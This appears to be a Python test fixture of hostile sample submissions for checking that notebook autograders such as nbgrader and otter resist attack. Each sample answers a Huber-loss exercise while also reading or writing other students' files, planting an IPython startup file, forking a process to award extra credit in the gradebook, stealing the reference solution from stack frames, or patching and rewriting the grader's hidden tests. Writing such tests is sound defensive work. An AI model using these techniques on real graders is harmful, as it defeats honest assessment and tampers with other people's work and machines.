"""Submissions that attack any grader, whichever it is: each answers one question wrongly, or
rightly and does more than answer.

In their text PLACES becomes a list of files that are not theirs, and BOOKS the gradebook that
nbgrader keeps. All are harmless to the machine that they run on.
"""

WRONG = "def huber(target, guess, delta=1.0):\n    return 0.0\n"
RIGHT = """def huber(target, guess, delta=1.0):
    size = np.abs(guess - target)
    return np.where(size <= delta, size**2 / 2, delta * (size - delta / 2)).mean()
"""

READS = (
    RIGHT
    + """
found = []
for place in PLACES:
    try:
        found.append(open(place).read())
    except (OSError, UnicodeDecodeError):
        pass
print(found)
if found:
    import tempfile
    open(tempfile.gettempdir() + "/pwned-read", "w").write("".join(found))
"""
)
WRITES = (
    RIGHT
    + """
for place in PLACES:
    try:
        open(place, "a").write(" pwned")
    except OSError:
        pass
"""
)
STARTS = (
    RIGHT
    + """
import os, sys, tempfile
for place in ("~/.ipython/profile_default/startup/00-pwned.py", "~/pwned.py",
              tempfile.gettempdir() + "/pwned.py"):
    try:
        place = os.path.expanduser(place)
        os.makedirs(os.path.dirname(place), exist_ok=True)
        open(place, "w").write("print('hello from somebody else')")
    except OSError:
        pass
"""
)
PAYS = (
    WRONG
    + """
import os, sqlite3, time
if os.path.exists(BOOKS) and os.fork() == 0:
    os.setsid()
    for n in range(300):
        try:
            with sqlite3.connect(BOOKS, timeout=1) as book:
                if book.execute("UPDATE grade SET extra_credit = 3 WHERE cell_id = (SELECT id "
                                "FROM base_cell WHERE name = 'huber')").rowcount and n > 100:
                    break
        except sqlite3.Error:
            pass
        time.sleep(0.1)
    os._exit(0)
"""
)
REFERENCE = """
def huber(target, guess, delta=1.0):
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in {**frame.f_globals, **frame.f_locals}.items():
            if "huber" in name and callable(value) and value is not huber:
                try:
                    return float(np.mean(value(guess - target, delta)))
                except Exception:
                    pass
        frame = frame.f_back
    return 0.0
"""
REPLACES = (
    WRONG
    + """
try:
    from otter.test_files import exception_test
    exception_test.test_case.call_func = lambda self, space: None
except ImportError:
    pass
import gc
for each in gc.get_objects():
    if type(each) is dict and "part_ways" in each:
        each["codec"].encode = lambda value, depth=0: {"a": ["<f8", [1], "AAAAAAAAAAA="]}
"""
)
REWRITES = (
    WRONG
    + """
import ast
class Pays(ast.NodeTransformer):
    def visit_Expr(self, node):
        paid = ast.Expr(ast.Constant(3.0))
        return ast.copy_location(paid, node) if "_hidden_tests" in ast.dump(node) else node
get_ipython().ast_transformers.append(Pays())
"""
)

# name → (the answer to `huber`, its points)
ATTACKS = {
    "reads the secret of the class and another's work": (READS, 3),
    "writes into another's work": (WRITES, 3),
    "leaves a file that runs in the next notebook": (STARTS, 3),
    "gives itself extra points in the gradebook": (PAYS, 0),
    "calls the reference that it finds in the callers' frames": (REFERENCE, 0),
    "replaces the grader's own functions": (REPLACES, 0),
    "rewrites the code of the hidden test before it runs": (REWRITES, 0),
}
